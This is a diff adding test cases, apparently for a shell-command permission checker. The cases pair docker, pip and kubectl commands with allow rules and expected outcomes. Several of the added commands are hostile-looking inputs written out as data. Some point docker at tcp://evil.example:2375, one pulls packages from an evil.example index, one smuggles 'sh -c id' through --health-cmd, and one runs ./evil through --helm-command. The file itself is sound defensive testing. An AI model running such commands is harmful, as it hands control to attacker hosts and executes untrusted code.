@@ -19,6 +19,31 @@ from tests.shell.conftest import Check
         ("docker --host= attached", "docker --host=tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
         ("docker abbreviated --ho", "docker --ho tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
         ("docker ps", "docker ps", ["Bash(docker:*)"], True),
+        # subcommand options, from `docker run --help` (read after the program's own options)
+        ("docker run --health-cmd", "docker run --health-cmd 'sh -c id' alpine", ["Bash(docker run:*)"], False),
+        ("docker -H then run", "docker -H tcp://evil.example:2375 run alpine", ["Bash(docker run:*)"], False),
+        (
+            "docker run --hostname is the container's",
+            "docker run --rm --hostname ci alpine true",
+            ["Bash(docker run:*)"],
+            True,
+        ),
+        ("docker ps --filter", "docker ps --filter status=exited", ["Bash(docker ps:*)"], True),
+        ("pip install --trusted-host", "pip install --trusted-host evil.example x", ["Bash(pip install:*)"], False),
+        ("pip download -i", "pip download -i https://evil.example/simple x", ["Bash(pip download:*)"], False),
+        ("kubectl kustomize --helm-command", "kubectl kustomize --helm-command ./evil .", ["Bash(kubectl:*)"], False),
+        (
+            "kubectl get --template formats",
+            "kubectl get pods --template '{{.metadata.name}}'",
+            ["Bash(kubectl get:*)"],
+            True,
+        ),
+        (
+            "kubectl boolean flag before the subcommand",
+            "kubectl --insecure-skip-tls-verify get pods",
+            ["Bash(kubectl:*)"],
+            True,
+        ),
         (
             "docker -H spelled out",
             "docker -H unix:///run/user/docker.sock ps",
